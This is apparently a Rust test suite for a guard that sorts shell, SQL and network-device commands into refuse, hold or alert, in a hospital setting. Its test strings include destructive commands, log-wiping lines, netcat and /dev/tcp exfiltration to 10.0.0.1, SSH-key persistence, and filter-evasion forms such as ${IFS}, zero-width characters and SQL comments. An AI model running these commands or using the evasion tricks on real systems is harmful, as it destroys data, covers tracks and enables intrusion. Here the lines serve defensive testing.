use super::*;
use proptest::prelude::*;

fn rule(pattern: &str, act: RuleAct) -> CommandRule {
    CommandRule { pattern: pattern.to_owned(), act, reason: "理由".to_owned() }
}

fn judge(class: TargetClass, patterns: &[(&str, RuleAct)]) -> Judge {
    let rules: Vec<CommandRule> = patterns.iter().map(|(pattern, act)| rule(pattern, *act)).collect();
    Judge::new(class, &rules, &[], None, Witness::None)
}

fn names(class: TargetClass, pattern: &str, line: &str) -> bool {
    judge(class, &[(pattern, RuleAct::Refuse)]).judge(line).is_some()
}

#[test]
fn a_pattern_names_what_a_person_means_by_it() {
    let linux = |pattern: &str, line: &str| names(TargetClass::Linux, pattern, line);
    for (pattern, line) in [
        ("shutdown", "shutdown -h now"),
        ("shutdown", "/sbin/shutdown"),
        ("shutdown", "sudo -u root /sbin/shutdown -r +5"),
        ("shutdown", "sudo --user root shutdown"),
        ("shutdown", "FOO=1 env BAR=2 nohup nice -n 5 shutdown &"),
        ("shutdown", "timeout 10 shutdown"),
        ("shutdown", "sleep 5; shutdown"),
        ("shutdown", "true && shutdown || true"),
        ("shutdown", "if true; then shutdown; fi"),
        ("shutdown", "echo $(shutdown)"),
        ("shutdown", "echo \"now `shutdown`\""),
        ("shutdown", "(cd /; shutdown)"),
        ("shutdown", "{ shutdown; }"),
        ("shutdown", "bash -c 'shutdown now'"),
        ("shutdown", "su - root -c \"sudo shutdown\""),
        ("shutdown", "eval shutdown now"),
        ("shutdown", "ls\nshutdown"),
        ("shutdown", r"\shutdown"),
        ("shutdown", "'shut'\"down\""),
        ("shutdown", "ｓｈｕｔｄｏｗｎ"),
        ("shutdown", "shut\u{200b}down"),
        ("rm -rf /", "rm -rf /"),
        ("rm -rf /", "rm -fr /"),
        ("rm -rf /", "rm -r -v -f //"),
        ("rm -rf /", "rm -rf --no-preserve-root /*"),
        ("rm -rf /", "rm${IFS}-rf$IFS/"),
        ("rm -r * /", "rm -rf /tmp/x /"),
        ("rm", "find . -name x -exec rm {} ;"),
        ("rm", "ls | xargs -0 rm -f"),
        ("dd * of=/dev/*", "dd if=/dev/zero bs=1M of=/dev/sda"),
        ("* > /dev/sd*", "cat image > /dev/sda"),
        ("* > /dev/sd*", "cat image 1>/dev/sda 2>&1"),
        ("* /etc/sudoers*", "echo x | tee -a /etc/sudoers.d/x"),
        ("systemctl stop", "systemctl --now stop httpd"),
        ("mkfs*", "mkfs.ext4 /dev/sdb1"),
        ("rsync * *:*", "rsync -av /data host:/tmp"),
        ("wr[ite] er[ase]", "wri eras"),
    ] {
        assert!(linux(pattern, line), "{pattern} should name {line}");
    }
    for (pattern, line) in [
        ("shutdown", "echo shutdown"),
        ("shutdown", "echo 'x; shutdown'"),
        ("shutdown", "man shutdown"),
        ("shutdown", "cat shutdown.log"),
        ("rm -rf /", "rm -rf /tmp/x"),
        ("rm -rf /", "rm -r /"),
        ("systemctl stop", "systemctl status stop"),
        ("dd * of=/dev/*", "dd if=/dev/sda of=/tmp/image"),
        ("rsync * *:*", "rsync -av /data /backup"),
        ("wr[ite] er[ase]", "w e"),
        ("RM", "rm x"),
    ] {
        assert!(!linux(pattern, line), "{pattern} should not name {line}");
    }
}

#[test]
fn sql_is_read_as_sql_on_a_database_alone() {
    let database = |pattern: &str, line: &str| names(TargetClass::Database, pattern, line);
    for (pattern, line) in [
        ("DROP TABLE", "drop   table patients;"),
        ("DROP TABLE", "select 1; DROP TABLE patients"),
        ("DROP TABLE", "DROP/**/TABLE patients"),
        ("DROP TABLE", "/*!50000 DROP TABLE patients */"),
        ("DROP TABLE", "mysql ehr -e 'drop table patients'"),
        ("DROP TABLE", "psql -c \"DROP TABLE patients\""),
        ("DELETE !WHERE", "delete from patients;"),
        ("DELETE !WHERE", "DELETE FROM patients -- WHERE id = 1"),
        ("DELETE !WHERE", "DELETE FROM patients RETURNING 'x where y'"),
        ("UPDATE !WHERE", "update patients set name = 'where'"),
        ("COPY * TO", "COPY (SELECT * FROM patients) TO '/tmp/x'"),
        ("SHUTDOWN", "ＳＨＵＴＤＯＷＮ;"),
        (r"\!*", r"\! rm -rf /tmp/x"),
        ("reboot", "sudo reboot"),
    ] {
        assert!(database(pattern, line), "{pattern} should name {line}");
    }
    for (pattern, line) in [
        ("DELETE !WHERE", "delete from patients where(id=1);"),
        ("DROP TABLE", "select 'drop table x'"),
        ("DROP TABLE", "-- drop table x"),
        ("COPY * TO", "COPY patients FROM STDIN"),
    ] {
        assert!(!database(pattern, line), "{pattern} should not name {line}");
    }
    assert!(!names(TargetClass::Linux, "DELETE !WHERE", "select 1; delete from x"));
}

#[test]
fn a_network_device_takes_words_cut_short() {
    let network = |line: &str| names(TargetClass::Network, "wr[ite] er[ase]", line);
    for line in ["write erase", "WR ER", "wri eras", "do wr er"] {
        assert!(network(line), "{line}");
    }
    for line in ["w er", "write memory", "writes erase", "show run | include write erase"] {
        assert!(!network(line), "{line}");
    }
}

#[test]
fn the_first_rule_decides_for_one_command_and_the_strictest_for_the_line() {
    let judge = judge(TargetClass::Linux, &[("systemctl stop ehr", RuleAct::Note), ("systemctl stop", RuleAct::Refuse), ("reboot", RuleAct::Hold)]);
    let act = |line: &str| judge.judge(line).map(|ruling| ruling.act);
    assert_eq!(act("systemctl stop ehr"), Some(RuleAct::Note), "the plan's rule stands before that of the class");
    assert_eq!(act("systemctl stop db"), Some(RuleAct::Refuse));
    assert_eq!(act("systemctl stop ehr; reboot"), Some(RuleAct::Hold));
    assert_eq!(act("reboot; systemctl stop db"), Some(RuleAct::Refuse));
    assert_eq!(act("systemctl status db"), None);
    let ruling = judge.judge("ls; sudo systemctl stop db").unwrap();
    assert_eq!((ruling.pattern.as_str(), ruling.part.as_str(), ruling.reason.as_str()), ("systemctl stop", "systemctl stop db", "理由"));
}

#[test]
fn what_is_not_planned_meets_its_act() {
    let planned = ["systemctl restart ehr*".to_owned(), "tail -f /var/log/*".to_owned(), "for".to_owned()];
    let judge = Judge::new(TargetClass::Linux, &[], &planned, Some(RuleAct::Hold), Witness::None);
    for line in ["systemctl restart ehr-web", "sudo systemctl restart ehr", "tail -f /var/log/ehr.log; systemctl restart ehr", "  "] {
        assert_eq!(judge.judge(line), None, "{line}");
    }
    for (line, part) in [("systemctl stop ehr", "systemctl stop ehr"), ("tail -f /var/log/x && id", "id"), ("tail -n 5 /var/log/x", "tail -n 5 /var/log/x"), ("xargs systemctl restart ehr", "xargs systemctl restart ehr"), ("tail -f /var/log/$(id)", "id")] {
        let ruling = judge.judge(line).unwrap_or_else(|| panic!("{line}"));
        assert_eq!((ruling.act, ruling.because, ruling.part.as_str()), (RuleAct::Hold, Because::Unplanned, part));
    }
    // Nothing is planned, so nothing passes.
    assert!(Judge::new(TargetClass::Linux, &[], &[], Some(RuleAct::Refuse), Witness::None).judge("ls").is_some());
    let sql = Judge::new(TargetClass::Database, &[], &["SELECT * FROM job".into(), "psql".into()], Some(RuleAct::Refuse), Witness::None);
    assert_eq!(sql.judge("select id from job where x > 1;"), None);
    assert_eq!(sql.judge("psql ehr"), None);
    assert!(sql.judge("select * from patients").is_some());
}

#[test]
fn a_witness_who_allows_step_by_step_sees_every_line_and_a_refusal_stays_one() {
    let judge = Judge::new(TargetClass::Linux, &[rule("reboot", RuleAct::Refuse), rule("ls", RuleAct::Note)], &[], None, Witness::Step);
    let seen = |line: &str| judge.judge(line).map(|ruling| (ruling.act, ruling.because));
    assert_eq!(seen("id"), Some((RuleAct::Hold, Because::Step)));
    assert_eq!(seen("ls"), Some((RuleAct::Hold, Because::Step)));
    assert_eq!(seen("reboot"), Some((RuleAct::Refuse, Because::Rule)));
    assert_eq!(seen(" "), None);
    assert_eq!(judge.unseen().map(|ruling| (ruling.act, ruling.because)), Some((RuleAct::Hold, Because::Step)));
    assert_eq!(Judge::new(TargetClass::Linux, &[rule("reboot", RuleAct::Refuse)], &[], Some(RuleAct::Refuse), Witness::Watch).unseen(), None);
    assert!(judge.may_stop());
}

#[test]
fn only_a_judge_that_can_stop_something_costs_a_wait() {
    assert!(judge(TargetClass::Linux, &[]).is_silent());
    assert!(!judge(TargetClass::Linux, &[("rm", RuleAct::Alert)]).may_stop());
    assert!(judge(TargetClass::Linux, &[("rm", RuleAct::Hold)]).may_stop());
    assert!(Judge::new(TargetClass::Linux, &[], &[], Some(RuleAct::Refuse), Witness::None).may_stop());
}

#[test]
fn what_cannot_be_read_within_bounds_is_refused_where_something_can_be() {
    let strict = judge(TargetClass::Linux, &[("rm", RuleAct::Hold)]);
    let parts = ":;".repeat(limits::COMMAND_PARTS + 5);
    let mut nested = "ls".to_owned();
    for _ in 0..limits::COMMAND_DEPTH + 2 {
        nested = format!("eval {nested}");
    }
    for line in [parts, "(".repeat(5000), "$(".repeat(5000), "x ".repeat(60_000), nested] {
        let ruling = strict.judge(&line).unwrap();
        assert_eq!((ruling.act, ruling.because), (RuleAct::Refuse, Because::TooMuch));
        assert!(ruling.part.chars().count() <= limits::LINE_CHARS);
        let mild = judge(TargetClass::Linux, &[("rm", RuleAct::Note)]);
        assert_eq!(mild.judge(&line).map(|ruling| ruling.act), Some(RuleAct::Alert));
    }
    // The worst that a pattern can ask of a line ends, too.
    let starry = judge(TargetClass::Linux, &[("* a*b* * a*b* * c", RuleAct::Refuse); 100]);
    let began = std::time::Instant::now();
    let _ = starry.judge(&"ab ".repeat(10_000));
    assert!(began.elapsed() < std::time::Duration::from_secs(20), "{:?}", began.elapsed());
}

#[test]
fn a_rule_says_something_and_has_few_stars() {
    assert!(rule("rm -rf *", RuleAct::Note).check().is_ok());
    for pattern in ["", "  ", "* * * * * * * * *", &"x".repeat(limits::LINE_CHARS + 1), "a\nb"] {
        assert!(rule(pattern, RuleAct::Note).check().is_err(), "{pattern}");
    }
}

/// What the ready-made sets are for: each line, and the least that must happen to it.
#[test]
fn the_ready_made_sets_name_what_a_careful_hospital_fears() {
    use RuleAct::{Alert, Hold, Refuse};
    let cases: &[(TargetClass, bool, &[(&str, RuleAct)])] = &[
        (TargetClass::Linux, true, &[
            ("sudo rm -rf /", Refuse), ("rm -rf /*", Refuse), ("mkfs.xfs /dev/sdb", Refuse), ("dd if=/dev/zero of=/dev/sda", Refuse),
            ("sudo reboot", Hold), ("shutdown -h now", Hold), ("init 6", Hold), ("history -c", Refuse), ("unset HISTFILE", Refuse),
            ("rm -f /var/log/messages", Refuse), ("> /var/log/secure", Refuse), ("cat /dev/null > /var/log/secure", Refuse),
        ]),
        (TargetClass::Linux, false, &[
            ("systemctl stop httpd", Hold), ("iptables -F", Hold), ("firewall-cmd --reload", Hold), ("useradd -m x", Hold), ("passwd root", Hold),
            ("visudo", Hold), ("scp /data/x a@b:/tmp", Hold), ("rsync -a /data a@b:/tmp", Hold), ("curl -T x http://x", Hold), ("wget http://x", Hold),
            ("tar c / | nc 10.0.0.1 99", Hold), ("base64 /data/x", Alert), ("crontab -r", Refuse), ("crontab -e", Hold), ("chmod -R 777 /data", Hold),
            ("ssh other", Hold), ("echo key >> /home/x/.ssh/authorized_keys", Hold), ("cat x > /dev/tcp/10.0.0.1/99", Hold),
        ]),
        (TargetClass::Database, true, &[("DROP DATABASE ehr;", Refuse), ("truncate table a", Hold), ("delete from a;", Hold), ("update a set b = 1", Hold), (r"\! sh", Hold)]),
        (TargetClass::Database, false, &[("GRANT ALL ON a TO b", Hold), ("copy a to '/tmp/x'", Hold), (r"\copy a to 'x'", Hold), ("select * from a into outfile '/tmp/x'", Hold)]),
        (TargetClass::Network, true, &[("write erase", Refuse), ("reload in 5", Hold), ("no logging host 10.0.0.1", Refuse), ("request system zeroize", Hold)]),
        (TargetClass::Network, false, &[("conf t", Alert), ("copy running-config tftp://10.0.0.1/x", Hold), ("telnet 10.0.0.1", Hold)]),
    ];
    for (class, basic, lines) in cases {
        let rules = if *basic { sets::basic(*class) } else { sets::whole(*class) };
        let judge = Judge::new(*class, &rules, &[], None, Witness::None);
        for (line, least) in *lines {
            let act = judge.judge(line).map(|ruling| ruling.act);
            assert!(act >= Some(*least), "{class:?}: {line} meets {act:?}");
        }
    }
    for line in ["ls -l", "cd /var/log", "tail -f /var/log/messages", "systemctl status httpd", "rm -rf /tmp/work", "cat /etc/hosts", "select 1"] {
        let judge = Judge::new(TargetClass::Linux, &sets::basic(TargetClass::Linux), &[], None, Witness::None);
        assert_eq!(judge.judge(line), None, "{line}");
    }
}

#[test]
fn every_ready_made_rule_is_sound_and_can_be_met() {
    for class in TargetClass::ALL {
        let whole = sets::whole(class);
        assert!(whole.len() <= limits::CLASS_RULES);
        for (at, rule) in whole.iter().enumerate() {
            rule.check().unwrap();
            assert!(rule.reason.ends_with('。'), "{}", rule.pattern);
            assert!(!whole[..at].iter().any(|other| other.pattern == rule.pattern), "{} stands twice", rule.pattern);
        }
        assert!(sets::basic(class).iter().all(|rule| whole.contains(rule)));
    }
}

proptest! {
    #[test]
    fn no_line_breaks_the_judge_or_takes_long(line in any::<String>(), pattern in any::<String>()) {
        for class in TargetClass::ALL {
            let judge = judge(class, &[(&pattern, RuleAct::Refuse), ("rm", RuleAct::Hold)]);
            let _ = judge.judge(&line);
        }
    }

    #[test]
    fn shell_like_noise_neither(line in "[a-z \\\\'\"$(){}`;|&<>!*/=\\-\n]{0,400}") {
        for class in TargetClass::ALL {
            let rules = sets::whole(class);
            let _ = Judge::new(class, &rules, &["ls".into()], Some(RuleAct::Hold), Witness::Step).judge(&line);
        }
    }

    #[test]
    fn a_command_is_found_wherever_it_stands(before in "[a-z /.-]{0,20}", after in "[a-z /.-]{0,20}", between in prop::sample::select(vec![";", "|", "&&", "||", "&", "\n"])) {
        let bare = format!("{before}{between}shutdown {after}");
        prop_assert!(names(TargetClass::Linux, "shutdown", &bare));
        let line = format!("{before}{between}sudo /sbin/shutdown {after}");
        prop_assert!(names(TargetClass::Linux, "shutdown", &line));
    }

    #[test]
    fn a_quoted_text_is_no_command(text in "[a-z;|& ]{0,40}") {
        let line = format!("echo '{text}; shutdown'");
        prop_assert!(!names(TargetClass::Linux, "shutdown", &line));
    }
}

#[test]
fn a_shell_that_reads_commands_is_told_from_one_that_runs_a_given_one() {
    for line in [
        "bash", "/bin/sh -s", "sudo bash -l", "exec zsh", "bash\t", "bash\n", "sudo -u root bash", "bash --norc", "env A=b nohup sh", "cd /tmp; sh",
        "bash -o pipefail", "bash -euo pipefail", "sh /dev/stdin", "su - root", "cat | bash", "sh -x > /tmp/log", "bash -",
    ] {
        assert!(reads_commands(line), "{line:?}");
    }
    for line in ["bash -c id", "bash -lc id", "bash script.sh", "bash -e script.sh", "ls", "", "bashful", "su -c id", "sh < /tmp/script"] {
        assert!(!reads_commands(line), "{line:?}");
    }
}

#[test]
fn a_word_without_measure_costs_what_it_takes_to_look_through_it() {
    let rules: Vec<CommandRule> = (0..50).map(|at| CommandRule { pattern: format!("* *a*b*c*d*e*f{at}*"), act: RuleAct::Refuse, reason: String::new() }).collect();
    let judge = Judge::new(TargetClass::Linux, &rules, &[], None, Witness::None);
    let word = "abcde".repeat(6_000);
    assert_eq!(judge.judge(&word), None, "a long word alone is no reason");
    // Read in twelve ways, it is looked through some five thousand times.
    let line = format!("{} {word}", "sudo ".repeat(11));
    assert_eq!(judge.judge(&line).map(|ruling| ruling.because), Some(Because::TooMuch));
}
